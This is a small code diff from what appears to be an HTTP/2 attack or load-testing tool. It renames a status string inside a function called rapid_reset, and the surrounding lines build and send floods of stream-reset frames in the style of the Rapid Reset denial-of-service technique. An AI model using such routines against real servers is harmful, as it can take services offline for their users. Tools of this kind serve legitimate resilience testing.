@@ -74,7 +74,7 @@ def rapid_reset(attack: Attack) -> None:
                 frames.append(raw_frame(3, 0, stream_id, (8).to_bytes(4)))
             if not connection.send(b"".join(frames)):
                 return
-        connection.is_alive(b"resetted")
+        connection.is_alive(b"were_reset")
 
 
 def many_headers(attack: Attack) -> None:
